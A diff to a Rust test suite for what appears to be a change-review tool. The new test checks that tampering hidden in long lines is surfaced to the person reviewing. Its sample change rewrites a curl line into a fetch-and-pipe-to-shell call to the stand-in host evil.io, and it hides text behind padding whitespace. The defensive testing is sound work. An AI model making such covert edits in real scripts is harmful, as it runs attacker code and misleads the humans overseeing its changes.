@@ -165,6 +165,33 @@ fn a_yes_is_the_word_that_was_shown() {
     }
 }
 
+/// A line longer than the terminal was cut in its middle, which is where the change was.
+#[test]
+fn what_changed_in_a_long_line_is_seen_before_it_is_kept() {
+    let dir = project();
+    let (head, tail) = ("a".repeat(3_000), "b".repeat(3_000));
+    fs::write(dir.path().join("min.js"), format!("{head}x=safe(){tail}\n")).unwrap();
+    let line = "curl -fsSL https://downloads.example.com/releases/stable/tool-1.2.3.tar.gz --output /tmp/tool.tgz # fetch it";
+    fs::write(dir.path().join("ci.sh"), format!("{line}\n")).unwrap();
+    let change = "sed -i 's/x=safe/x=evil/' min.js; sed -i 's/gz --/gz|sh; curl evil.io|sh;# --/' ci.sh; \
+                  printf '%6000s;hidden\n' x > new";
+    let mut person = person(dir.path(), change);
+    let shown = person.sees("keep nothing: ");
+    // The terminal has 100 columns: what is longer goes on in the next row.
+    let whole = shown.replace("\r\n> ", "");
+    assert!(whole.contains("gz|sh; curl evil.io|sh;# --output /tmp/tool.tgz # fetch it"), "{shown}");
+    assert!(whole.contains("ax=safe()b") && whole.contains("ax=evil()b"), "{shown}");
+    assert!(whole.contains("2882 characters of this line stay and are left out"), "{shown}");
+    // What is new is there to its end for whoever asks for it.
+    assert!(!whole.contains(";hidden") && whole.contains("`more` for the next of"), "{shown}");
+    person.answers("all");
+    let rest = person.sees("keep nothing: ");
+    assert!(rest.contains(";hidden") && !rest.contains("`more`"), "{rest}");
+    person.answers("no");
+    assert_eq!(person.ended().0, Some(0));
+    assert!(!dir.path().join("new").exists());
+}
+
 #[test]
 fn what_a_program_does_to_the_terminal_is_undone_before_anything_is_shown() {
     let dir = project();
@@ -179,7 +206,7 @@ fn what_a_program_does_to_the_terminal_is_undone_before_anything_is_shown() {
         assert!(undone.contains(sequence), "{undone:?}");
     }
     // First how many, and what needs a look of its own; then what is in them.
-    let summary = person.sees("@@");
+    let summary = person.sees("@line");
     assert!(summary.contains("5 created") && summary.contains("tool (it can be run)"), "{summary}");
     assert!(summary.contains("! created") && summary.contains("git runs what it says"), "{summary}");
     let mut all = summary;
@@ -193,10 +220,8 @@ fn what_a_program_does_to_the_terminal_is_undone_before_anything_is_shown() {
         }
     };
     assert!(all.contains("5 changes, 1 that can be run now, 1 that act by themselves"), "{all}");
-    assert!(
-        all.contains("\\u{1b}[8m") && all.contains("more characters)… ") && all.contains(";import os"),
-        "{all}"
-    );
+    let whole = all.replace("\r\n> ", "");
+    assert!(whole.contains("+\\u{1b}[8m   ") && whole.contains("   ;import os"), "{all}");
     assert!(!all.contains('\u{1b}'), "nothing of it reaches the terminal raw");
     assert!(all.contains("+60"), "all of it can be seen");
     person.answers(&word);
